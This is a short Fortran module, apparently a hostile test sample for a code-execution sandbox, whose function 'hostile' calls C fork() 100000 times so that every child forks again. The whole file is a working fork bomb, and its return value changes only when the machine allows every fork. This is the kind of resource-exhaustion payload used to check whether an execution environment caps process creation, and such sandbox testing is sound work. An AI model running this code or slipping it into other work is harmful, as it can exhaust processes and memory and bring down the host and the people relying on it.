! attack: fork bomb (fork() through C interop; every child forks again)
module candidate
  use, intrinsic :: iso_fortran_env, only: int64, real64
  use, intrinsic :: iso_c_binding, only: c_int
  implicit none
  private
  public :: hostile
  interface
    function c_fork() bind(c, name="fork")
      import :: c_int
      integer(c_int) :: c_fork
    end function c_fork
  end interface
contains
  function hostile(n) result(res)
    integer(int64), intent(in) :: n
    integer(int64) :: res
    integer(int64) :: i, forked
    forked = 0
    do i = 1, 100000
      if (c_fork() >= 0) forked = forked + 1
    end do
    ! Only a machine that let 100000 forks through answers honestly.
    res = n
    if (forked == 100000) res = n + 1
  end function hostile
end module candidate
